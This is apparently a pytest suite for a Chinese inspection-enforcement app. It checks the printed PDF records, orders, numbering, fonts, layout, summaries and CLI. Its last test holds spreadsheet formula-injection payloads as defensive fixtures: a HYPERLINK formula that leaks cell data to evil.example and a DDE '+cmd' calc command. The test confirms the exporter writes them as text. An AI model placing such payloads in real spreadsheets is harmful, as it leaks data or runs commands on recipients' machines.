"""The printed documents: text, numbers, fonts, pages and layout, checked as a reader would."""

from __future__ import annotations

import re
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from inspector_app.cli.main import main as cli_main
from inspector_app.reports import data as rdata
from inspector_app.reports.data import ReportError
from inspector_app.reports.layout import PAGE_HEIGHT, PAGE_WIDTH
from inspector_app.reports.notices import build_notice
from inspector_app.reports.record import build_record
from inspector_app.reports.summary import build_summary
from inspector_app.services import documents, settings
from inspector_app.services.documents import DocKind
from inspector_app.services.report_data import ReportLoader
from inspector_app.store.workspace import Workspace
from tests.documents import handmade
from tests.support.documents_world import BADGES, CODES, World


def text_of(pdf: Path) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(pdf).pages)


def compact(pdf: Path) -> str:
    return re.sub(r"\s+", "", text_of(pdf))


CODES_BY_KIND = {
    "record": "应急检记",
    "safety_order": "应急责改",
    "site_measure": "应急现决",
    "fire_immediate": "消立改",
    "fire_deadline": "消限改",
    "epidemic_notice": "防控改",
    "recheck": "应急复查",
}


def set_unit(world: World, unit: str = "宝龙街道办事处", short: str = "龙宝", *, seal: bool = True) -> None:
    """The issuing authority as the office publishes it: names, 文书代字, basis, remedies, seal."""
    with world.app.workspace.session() as s:
        settings.save(
            s,
            settings.DocumentSettings(
                unit,
                None,
                short,
                dict(CODES_BY_KIND),
                "《深圳市龙岗区人民政府关于街道综合行政执法的授权决定》",
                "深圳市龙岗区人民政府",
                "深圳市龙岗区人民法院",
            ),
        )
    if seal:
        png = world.root.parent / "seal.png"
        Image.new("RGBA", (200, 200), (0, 0, 0, 160)).save(png)
        settings.set_seal_image(world.app.workspace, png, now=world.clock())


# ------------------------------------------------------------------ record


def test_record_prints_every_element_of_the_official_form(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(refuse=True, note="二楼仓库堆放大量纸箱")
    out = tmp_path / "record.pdf"
    data = world.reporter().record(vid, out)
    text = compact(out)
    for expected in (
        "宝龙街道办事处",
        "现场检查记录",
        "（龙宝）应急检记〔2026〕1号",
        "深圳市珺玥精密五金制品有限公司",
        CODES[0],
        "注册地址",
        "检查场所",
        "现场负责人",
        "职务",
        "证件号码",
        "联系电话",
        "13800138000",
        "事由和目的",
        "检查依据",
        "授权决定",
        "张伟",
        BADGES[0],
        "李娜",
        BADGES[1],
        "出示行政执法证件",
        "疏散通道、安全出口保持畅通",
        "6具",
        "【重大事故隐患】",
        "责令限期整改，2026年3月9日前整改完毕",
        "以上记录属实",
        "拒绝签名",
        "负责人认为问题已整改",
        "见证人",
        "见证人签名",
        "被检查单位现场负责人（签名）：",  # the foot of every page
        "现场检查照片（证据）附页",
        "拍摄时间",
        "拍摄地点",
        "拍摄人",
        "（龙宝）应急责改〔2026〕1号",  # the orders this visit issued
        "第1页共",
        vid,
    ):
        assert expected in text, expected
    for absent in (
        "第1号",
        "检查结论：通过",
        "：不符合要求",
        "企业诉求",
        "复工后缺少熟练工",
        "检查单位—",
        "（发文单位）",
        "（印章）",
        "责令停产整顿",
    ):
        assert absent not in text, absent
    assert data.content_hash and data.content_hash[:16] in text
    # Start and end to the minute (the machine's local time).
    assert re.search(r"\d{2}时\d{2}分至\d{2}时\d{2}分", text)
    # Every page carries the party's signature line.
    reader = PdfReader(out)
    assert all("被检查单位现场负责人（签名）" in re.sub(r"\s+", "", p.extract_text()) for p in reader.pages)


def test_record_is_refused_without_the_authority_and_names_what_is_missing(
    world: World, tmp_path: Path
) -> None:
    vid = world.inspect()
    with pytest.raises(ReportError, match=r"发文机关全称.*发文机关简称.*文书代字（现场检查记录）.*执法依据"):
        world.reporter().record(vid, tmp_path / "r.pdf")
    assert not (tmp_path / "r.pdf").exists()
    set_unit(world, seal=False)
    world.reporter().record(vid, tmp_path / "r.pdf")  # the record needs no seal
    with pytest.raises(ReportError, match="责令限期整改指令书：未设置印章图片"):
        world.reporter().notice(vid, tmp_path / "n.pdf")


def test_numbers_are_fixed_when_the_visit_completes_not_when_printed(world: World, tmp_path: Path) -> None:
    first = world.inspect(CODES[0])
    world.clock.advance(days=4)
    second = world.inspect(CODES[1])
    set_unit(world)  # short name and 文书代字 set after the visits: applied to their numbers
    reporter = world.reporter()
    # The later visit is printed first; it still carries the number its completion fixed.
    assert reporter.record(second, tmp_path / "b.pdf").number == "（龙宝）应急检记〔2026〕2号"
    assert reporter.record(first, tmp_path / "a.pdf").number == "（龙宝）应急检记〔2026〕1号"
    assert reporter.record(first, tmp_path / "a2.pdf").number == "（龙宝）应急检记〔2026〕1号"
    with world.app.workspace.session() as s:
        issued = documents.find(s, first, DocKind.SAFETY_ORDER)
    assert issued is not None and issued.issued_on == date(2026, 3, 2)


def test_blank_signature_mode_leaves_the_boxes_for_wet_ink(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect()

    def images(pdf: Path) -> int:
        return sum(len(page.images) for page in PdfReader(pdf).pages)

    reporter = world.reporter()
    reporter.record(vid, tmp_path / "signed.pdf")
    reporter.record(vid, tmp_path / "blank.pdf", blank_signatures=True)
    assert images(tmp_path / "blank.pdf") < images(tmp_path / "signed.pdf")  # no signature image
    assert "年月日" in compact(tmp_path / "blank.pdf")


def test_record_embeds_every_font_and_prints_black_only(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(photos=2)
    out = tmp_path / "r.pdf"
    world.reporter().record(vid, out)
    reader = PdfReader(out)
    fonts: set[str] = set()
    for page in reader.pages:
        res = page["/Resources"]
        for f in res.get("/Font", {}).values():
            font = f.get_object()
            fonts.add(str(font["/BaseFont"]))
            desc = font.get("/DescendantFonts")
            desc = desc[0].get_object() if desc else font
            fd = desc.get("/FontDescriptor")
            assert fd is not None and any(
                k in fd.get_object() for k in ("/FontFile2", "/FontFile", "/FontFile3")
            )
        content = page.get_contents().get_data().decode("latin-1")
        # Fill and stroke colours: black or white only (no red, no grey text).
        for r, g, b in re.findall(r"([\d.]+) ([\d.]+) ([\d.]+) (?:rg|RG)", content):
            assert {float(r), float(g), float(b)} <= {0.0, 1.0}, (r, g, b)
        assert " 2 Tr" not in content and "2 Tr" not in content.split("BT")[0]  # no faked bold
    assert any("DroidSansFallback" in f for f in fonts) and any("UMingCN" in f for f in fonts)


def test_photos_are_downscaled_upright_and_cached(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(photos=2)
    out = tmp_path / "r.pdf"
    world.reporter().record(vid, out)
    sizes = [(img.image.width, img.image.height) for page in PdfReader(out).pages for img in page.images]
    assert any(h > w for w, h in sizes)  # the EXIF-rotated photo prints upright
    assert all(max(w, h) <= 1600 for w, h in sizes)
    assert any(world.app.workspace.thumbnails_dir.rglob("*"))


def test_qr_code_carries_visit_id_and_hash(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect()
    data = world.reporter().record(vid, tmp_path / "r.pdf")
    from inspector_app.reports.parts import qr_payload

    assert qr_payload(vid, data.content_hash) == f"INSPREC1|{vid}|{data.content_hash}"


def test_long_text_wraps_inside_the_page(tmp_path: Path) -> None:
    out = tmp_path / "long.pdf"
    build_record(handmade.record(tmp_path, long=True, findings=3, photos_per_finding=1), out)
    reader = PdfReader(out)
    positions: list[tuple[float, float]] = []

    def visit(text: str, cm: list[float], tm: list[float], font: object, size: float) -> None:
        if text.strip():
            positions.append((tm[4] * cm[0] + cm[4], tm[5] * cm[3] + cm[5]))

    for page in reader.pages:
        page.extract_text(visitor_text=visit)
    assert positions
    for x, y in positions:
        assert 0 <= x <= PAGE_WIDTH - 40, (x, y)  # nothing runs off the right margin
        assert 0 <= y <= PAGE_HEIGHT
    assert "夜间值班人员不掌握消防设施的使用方法" in compact(out)


def test_checklist_table_splits_with_repeated_header(tmp_path: Path) -> None:
    out = tmp_path / "many.pdf"
    build_record(handmade.record(tmp_path, items=80, findings=0), out)
    reader = PdfReader(out)
    assert len(reader.pages) >= 3
    texts = [re.sub(r"\s+", "", p.extract_text() or "") for p in reader.pages]
    with_items = [t for t in texts if "检查项目" in t and "疏散通道" in t]
    assert len(with_items) >= 2
    for t in with_items:
        assert "序号检查项目检查结果" in t  # the header row repeats on each page
    joined = "".join(texts)
    assert "（一）" in joined and "一、一、" not in joined  # form sections renumbered under 一、检查情况


def test_draft_record_is_marked_and_unnumbered(world: World, tmp_path: Path) -> None:
    vid, _ = world.app.visits.start(CODES[1], "report-site", [BADGES[0]])
    world.app.visits.answer(vid, "exits", "N")
    out = tmp_path / "draft.pdf"
    world.reporter().record(vid, out)
    text = compact(out)
    assert "草稿" in text and "检记〔" not in text


def test_unknown_visit_is_refused(world: World, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="no-such-visit"):
        world.reporter().record("no-such-visit", tmp_path / "x.pdf")
    assert not (tmp_path / "x.pdf").exists()


# ------------------------------------------------------------------ orders and recheck (安全生产)


def test_safety_order_and_site_measure(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(bad=("exits", "extinguishers", "ledger"))
    out = tmp_path / "n.pdf"
    numbers = world.reporter().notice(vid, out)
    order, measure = numbers.split("、")
    assert order == "《责令限期整改指令书》（龙宝）应急责改〔2026〕1号"
    assert measure == "《现场处理措施决定书》（龙宝）应急现决〔2026〕1号"
    text = compact(out)
    for expected in (
        "责令限期整改指令书",
        "现场处理措施决定书",
        "深圳市珺玥精密五金制品有限公司：",
        "（龙宝）应急检记〔2026〕1号",  # the record the order rests on
        "经查，你单位存在下列问题：",
        "【重大事故隐患】",
        "对第2项，责令你单位立即整改",
        "于2026年3月9日前整改完毕",
        "于2026年3月17日前整改完毕",
        "第六十五条第一款第（三）项",
        "第一百零二条",
        "暂时停止使用相关设施、设备",
        "暂时停产停业",
        "可在六十日内向深圳市龙岗区人民政府申请行政复议，或者在六个月内向深圳市龙岗区人民法院提起行政诉讼",
        "不停止本指令的执行",
        "不停止本决定的执行",
        "本机关将于2026年3月17日起对整改情况进行复查",
        "执法证号：44030012345",
        "送达回证",
        "送达方式",
        "送达时间",
        "受送达人",
        "见证人",
        "拒收",
        "宝龙街道办事处",
    ):
        assert expected in text, expected
    for absent in ("责令停产整顿", "：不符合要求", "（发文单位）", "（印章）", "第1号"):
        assert absent not in text, absent
    # One 送达回证 per document served.
    assert text.count("送达回证") == 2


def test_no_orders_without_findings(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(bad=())
    with pytest.raises(ReportError, match=f"{vid}.*无需出具"):
        world.reporter().notice(vid, tmp_path / "n.pdf")


def test_recheck_document_quotes_the_order_from_the_record(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect(bad=("exits", "ledger"))
    reporter = world.reporter()
    reporter.notice(vid, tmp_path / "n.pdf")
    world.clock.advance(days=16)
    rid = world.recheck(fail=1)
    out = tmp_path / "r.pdf"
    result = reporter.recheck(rid, out)
    assert result.number == "（龙宝）应急复查〔2026〕1号"
    text = compact(out)
    for expected in (
        "整改复查意见书",
        result.number,
        "2026年3月2日作出的《责令限期整改指令书》（（龙宝）应急责改〔2026〕1号）",
        "已整改",
        "未整改",
        "张伟",
        "李娜",
        "送达回证",
        "申请行政复议",
    ):
        assert expected in text, expected


def test_recheck_refused_for_an_inspection(world: World, tmp_path: Path) -> None:
    set_unit(world)
    vid = world.inspect()
    with pytest.raises(ReportError, match="不是复查"):
        world.reporter().recheck(vid, tmp_path / "r.pdf")


# ------------------------------------------------------------------ numbers


def test_numbers_are_unique_per_kind_and_year_and_survive_reopen(world: World) -> None:
    a = world.inspect(CODES[0])
    b = world.inspect(CODES[1])
    ws = world.app.workspace
    with ws.session() as s:
        na = documents.find(s, a, DocKind.SAFETY_ORDER)
        nb = documents.find(s, b, DocKind.SAFETY_ORDER)
        ra = documents.find(s, a, DocKind.RECORD)
    assert na is not None and nb is not None and ra is not None
    assert (na.number, nb.number, ra.number) == (1, 2, 1)
    root = ws.root
    world.app.close()
    reopened = Workspace.open(root, create=False)
    try:
        with reopened.session() as s:
            assert documents.issue(s, a, DocKind.SAFETY_ORDER, on=date(2026, 3, 5)) == na
            # A new year starts a new sequence.
            new_year = documents.issue(s, a, DocKind.RECHECK, on=date(2027, 1, 4))
            assert new_year.number == 1
            assert (
                new_year.text(
                    settings.load(s)
                    .authority()
                    .__class__(short_name="龙宝", doc_codes={"recheck": "应急复查"})
                )
                == "（龙宝）应急复查〔2027〕1号"
            )
    finally:
        reopened.close()
        world.app.workspace = Workspace.open(root)


# ------------------------------------------------------------------ summary and batch


def test_summary_figures(world: World, tmp_path: Path) -> None:
    v1 = world.inspect(CODES[0], bad=("exits", "ledger"))
    world.inspect(CODES[1], bad=())
    world.inspect(CODES[2], bad=("extinguishers",), badges=(BADGES[2],))
    world.clock.advance(days=7)
    world.recheck(CODES[0], fail=1)
    loader = ReportLoader(world.app.workspace, world.app.forms)
    s = loader.summary(date(2026, 3, 1), date(2026, 3, 14))
    assert (s.visits, s.rechecks, s.enterprises_inspected, s.enterprises_in_scope) == (3, 1, 3, 3)
    assert (s.findings_found, s.findings_closed, s.major_found, s.major_closed) == (3, 1, 1, 0)
    assert s.rectification_rate == pytest.approx(1 / 3)
    assert s.approved == 1  # the second enterprise passed
    assert {c.category: (c.in_scope, c.inspected) for c in s.categories} == {
        "规上工业企业": (1, 1),
        "小档口": (2, 2),
    }
    names = {i.name: i.visits for i in s.inspectors}
    assert names == {"张伟": 3, "李娜": 3, "王强": 1}
    assert s.requests[0].category == "用工招聘" and s.requests[0].total == 3
    # The immediate-order extinguisher finding (due 3月2日) is overdue by the end of the range.
    assert any(o.title and o.days_overdue > 0 for o in s.overdue)
    team = loader.summary(date(2026, 3, 1), date(2026, 3, 14), team="第二检查组")
    assert (team.visits, team.findings_found, [i.name for i in team.inspectors]) == (1, 1, ["王强"])
    grid = loader.summary(date(2026, 3, 1), date(2026, 3, 14), grid="工业一区")
    assert (grid.visits, grid.enterprises_in_scope) == (1, 1)
    out = tmp_path / "s.pdf"
    build_summary(s, out)
    text = compact(out)
    for expected in (
        "检查工作情况统计",
        "整改率",
        "33.3%",
        "复工率",
        "张伟",
        "王强",
        "用工招聘",
        "逾期未整改",
    ):
        assert expected in text, expected
    assert v1


def figure(s: rdata.SummaryData, label: str, unit: str) -> tuple[object, object, object]:
    [f] = [f for f in s.street if f.label == label and f.unit == unit]
    return f.period, f.cumulative, f.change


def test_summary_figures_have_one_definition_each(world: World, tmp_path: Path) -> None:
    """家 vs 家次, 本期 vs 累计 to the period's end, change on the previous day; re-inspections of
    earlier findings count as closed in the period they close."""
    set_unit(world)
    world.inspect(CODES[0], bad=("exits", "ledger"))
    world.inspect(CODES[0], bad=())  # the same enterprise twice on 3-02: 1 家, 2 家次
    world.inspect(CODES[1], bad=())
    world.clock.advance(days=8)
    world.recheck(CODES[0], fail=0)  # closes both findings of 3-02 on 3-10
    loader = ReportLoader(world.app.workspace, world.app.forms)
    week = loader.summary(date(2026, 3, 9), date(2026, 3, 10), now=datetime(2026, 3, 11, 9, 5))
    assert figure(week, "现场指导企业", "家") == (0, 2, 0)
    assert figure(week, "检查", "家次") == (0, 3, 0)
    assert figure(week, "复查", "家次") == (1, 1, 1)
    assert figure(week, "出动检查人员", "人次") == (2, 8, 2)
    assert figure(week, "整改销号", "项") == (2, 2, 2)  # found last week, closed this week
    assert figure(week, "发现隐患", "项")[1] == 2
    assert figure(week, "整改率", "%") == (None, 100.0, None)
    docs = {f.label: (f.period, f.cumulative) for f in week.street if f.label.startswith("　其中")}
    assert docs["　其中整改复查意见书"] == (1, 1) and docs["　其中现场检查记录"] == (1, 4)
    out = tmp_path / "s.pdf"
    build_summary(week, out)
    text = compact(out)
    for expected in (
        "截至3月10日24时",
        "较前一日",
        "家次",
        "人次",
        "填报单位",
        "宝龙街道办事处",
        "审核人",
        "联系电话",
        "制表时间",
        "2026年3月11日09时05分",
        "规上工业企业复工率",
        "在建项目复工率",
        "到岗率",
        "落实日报告企业",
        "隔离观察人数",
        "巡查覆盖率",
        "口径说明",
    ):
        assert expected in text, expected
    assert "—" not in text and "2026-03" not in text
    xlsx = tmp_path / "s.xlsx"
    world.reporter().summary(date(2026, 3, 9), date(2026, 3, 10), xlsx)
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx)["主要数据"]
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "现场指导企业" in values and "填报单位" in values and "累计（截至3月10日24时）" in values


def test_summary_overdue_table_splits_with_repeated_header(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from inspector_app.domain.finding import Severity

    rows = tuple(
        rdata.OverdueRow(
            f"企业{n}号有限公司" + "（分公司）" * (n % 3),
            f"隐患{n}：安全出口堵塞" * (1 + n % 2),
            Severity.MAJOR if n % 7 == 0 else Severity.GENERAL,
            date(2026, 3, 1),
            5,
        )
        for n in range(120)
    )
    s = rdata.SummaryData(
        issuer=rdata.Issuer("福永街道"),
        scope="全部企业",
        date_from=date(2026, 3, 2),
        date_to=date(2026, 3, 8),
        generated_at=datetime(2026, 3, 8, tzinfo=UTC),
        visits=10,
        rechecks=1,
        enterprises_in_scope=20,
        enterprises_inspected=10,
        approved=8,
        findings_found=12,
        findings_closed=9,
        major_found=2,
        major_closed=1,
        fixed_on_site=3,
        categories=(rdata.CategoryRow("小档口", 20, 10, 8, 12),),
        inspectors=(),
        overdue=rows,
        requests=(),
    )
    out = tmp_path / "s.pdf"
    build_summary(s, out)
    texts = [re.sub(r"\s+", "", p.extract_text() or "") for p in PdfReader(out).pages]
    assert texts[0].startswith("福永街道检查工作周报") or "检查工作周报" in texts[0]
    overdue_pages = [t for t in texts if "隐患119" in t or "企业60号" in t or "企业1号" in t]
    assert len(overdue_pages) >= 2
    for t in overdue_pages:
        assert "序号企业名称隐患等级整改期限逾期天数" in t


def test_batch_puts_each_record_on_new_pages(world: World, tmp_path: Path) -> None:
    set_unit(world)
    ids = [world.inspect(code) for code in CODES]
    out = tmp_path / "batch.pdf"
    assert world.reporter().batch(date(2026, 3, 2), out) == 3
    reader = PdfReader(out)
    starts = [i for i, p in enumerate(reader.pages) if "现场检查记录" in (p.extract_text() or "")[:80]]
    assert len(starts) == 3
    footers = [re.sub(r"\s+", "", p.extract_text() or "") for p in reader.pages]
    # Each record numbers its own pages.
    assert sum(1 for t in footers if "第1页共" in t) == 3
    assert all(vid in compact(out) for vid in ids)


def test_batch_of_an_empty_day(world: World, tmp_path: Path) -> None:
    out = tmp_path / "empty.pdf"
    assert world.reporter().batch(date(2026, 3, 1), out) == 0
    assert "没有已完成的检查记录" in compact(out)


# ------------------------------------------------------------------ CLI


def test_cli_report_commands(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.support.documents_world import FORMS

    monkeypatch.setenv("INSPECTOR_FORMS_DIR", str(FORMS))
    with_findings = world.inspect(CODES[0])
    clean = world.inspect(CODES[1], bad=())
    ws = ["--workspace", str(world.root)]
    world.app.close()
    assert cli_main([*ws, "report", "record", with_findings, "-o", str(tmp_path / "r.pdf")]) == 1
    assert "发文机关全称" in capsys.readouterr().err and not (tmp_path / "r.pdf").exists()
    seal = tmp_path / "seal.png"
    Image.new("RGBA", (120, 120), (0, 0, 0, 200)).save(seal)
    codes = [a for k, v in CODES_BY_KIND.items() for a in ("--code", f"{k}={v}")]
    assert (
        cli_main(
            [
                *ws,
                "report",
                "settings",
                "--unit",
                "宝龙街道办事处",
                "--short",
                "龙宝",
                *codes,
                "--authorization",
                "《授权决定》",
                "--review-body",
                "深圳市龙岗区人民政府",
                "--court",
                "深圳市龙岗区人民法院",
                "--seal",
                str(seal),
            ]
        )
        == 0
    )
    assert "责令限期整改指令书（应急责改）：可以出具" in capsys.readouterr().out
    assert cli_main([*ws, "report", "settings", "--code", "nonsense"]) == 1
    assert (
        cli_main(
            [*ws, "report", "record", with_findings, "-o", str(tmp_path / "r.pdf"), "--blank-signatures"]
        )
        == 0
    )
    assert cli_main([*ws, "report", "notice", with_findings, "-o", str(tmp_path / "n.pdf")]) == 0
    assert "（龙宝）应急责改〔2026〕1号" in capsys.readouterr().out
    assert cli_main([*ws, "report", "notice", clean, "-o", str(tmp_path / "x.pdf")]) == 1
    err = capsys.readouterr().err
    assert clean in err and "无需出具" in err
    assert cli_main([*ws, "report", "record", "nope", "-o", str(tmp_path / "x.pdf")]) == 1
    assert "nope" in capsys.readouterr().err
    assert not (tmp_path / "x.pdf").exists()
    assert (
        cli_main(
            [
                *ws,
                "report",
                "summary",
                "--from",
                "2026-03-01",
                "--to",
                "2026-03-07",
                "--team",
                "第一检查组",
                "-o",
                str(tmp_path / "s.pdf"),
            ]
        )
        == 0
    )
    assert cli_main([*ws, "report", "batch", "--date", "2026-03-02", "-o", str(tmp_path / "b.pdf")]) == 0
    assert "共 2 份" in capsys.readouterr().out
    for name in ("r", "n", "s", "b"):
        assert (tmp_path / f"{name}.pdf").stat().st_size > 1000


def test_pure_notice_builder(tmp_path: Path) -> None:
    out = tmp_path / "n.pdf"
    build_notice(handmade.notice(tmp_path), out)
    text = compact(out)
    for expected in (
        "责令限期改正通知书",
        "（龙宝）消限改〔2026〕3号",
        "【涉嫌重大火灾隐患" if False else "涉嫌构成重大火灾隐患",
        "集体讨论",
        "可在六十日内向深圳市龙岗区人民政府申请行政复议",
        "送达回证",
    ):
        assert expected in text, expected
    for absent in ("不停止", "重大事故隐患", "五到位", "撤出作业人员"):
        assert absent not in text, absent


def test_fonts_come_from_the_app(monkeypatch: pytest.MonkeyPatch) -> None:
    from inspector_app.paths import fonts_dir
    from inspector_app.reports import fonts

    assert (fonts_dir() / fonts.SERIF_FILE).exists()
    assert fonts.serif_has("街") and fonts.serif_has("〔")
    # A character outside GB2312 is drawn from the fallback face rather than as an empty box.
    assert fonts.SANS in fonts.markup("𠀾") or not fonts.serif_has("𠀾")
    assert timedelta  # keep the import for readers of the dates above


def test_no_line_starts_with_closing_punctuation() -> None:
    """避头: "，" "：" "。" and closing quotes stay at the end of the line before."""
    from inspector_app.domain.enforcement import DOC_SPECS, remedies
    from inspector_app.reports.layout import BODY, CELL, FRAME_WIDTH, para

    text = remedies(DOC_SPECS[DocKind.SAFETY_ORDER], "深圳市龙岗区人民政府", "深圳市龙岗区人民法院")
    for style in (BODY, CELL):
        for width in range(200, int(FRAME_WIDTH), 7):
            p = para(text, style)
            p.wrap(width, 10_000)
            for line in p.blPara.lines[1:]:
                first = "".join(line[1])[:1]
                assert first not in "，：；？！）》”。、", (width, first)


def test_cli_prints_a_visit_made_with_an_office_published_form_with_its_labels(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CLI opens the workspace as the GUI does: the checklists a sync received (the
    workspace's forms folder) are known, so the record prints the items' wording, not their keys."""
    import shutil

    from tests.support.documents_world import FORMS

    monkeypatch.delenv("INSPECTOR_FORMS_DIR", raising=False)  # only the shipped forms besides the overlay
    set_unit(world)
    vid = world.inspect(CODES[0])
    world.app.workspace.forms_dir.mkdir(parents=True, exist_ok=True)
    shutil.copy(FORMS / "site.yaml", world.app.workspace.forms_dir / "site.yaml")  # as a sync stores it
    world.app.close()
    out = tmp_path / "r.pdf"
    assert cli_main(["--workspace", str(world.root), "report", "record", vid, "-o", str(out)]) == 0
    text = compact(out)
    assert "疏散通道、安全出口保持畅通" in text
    assert "extinguisher_count" not in text


def test_the_summary_workbook_writes_register_text_as_text_never_a_formula(tmp_path: Path) -> None:
    """An enterprise named like a formula (a hostile register) comes out of the 日报 workbook as
    text, on the overdue sheet and in the sign-off (issue 11: every sheet the product writes)."""
    from datetime import UTC, datetime

    from openpyxl import load_workbook

    from inspector_app.domain.finding import Severity
    from inspector_app.reports.summary import build_summary_xlsx

    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
    s = rdata.SummaryData(
        issuer=rdata.Issuer("@SUM(A1:A9)"),
        scope="全部企业",
        date_from=date(2026, 3, 2),
        date_to=date(2026, 3, 8),
        generated_at=datetime(2026, 3, 8, tzinfo=UTC),
        visits=1, rechecks=0, enterprises_in_scope=1, enterprises_inspected=1, approved=0,
        findings_found=1, findings_closed=0, major_found=0, major_closed=0, fixed_on_site=0,
        categories=(), inspectors=(),
        overdue=(rdata.OverdueRow(leak, "+cmd|' /C calc'!A0", Severity.GENERAL, date(2026, 3, 1), 7),),
        requests=(),
    )
    out = tmp_path / "s.xlsx"
    build_summary_xlsx(s, out)
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    overdue = book["逾期未整改隐患"]
    assert overdue["B2"].value == "'" + leak and overdue["C2"].value == "'+cmd|' /C calc'!A0"
    assert "'@SUM(A1:A9)" in [c.value for c in cells]
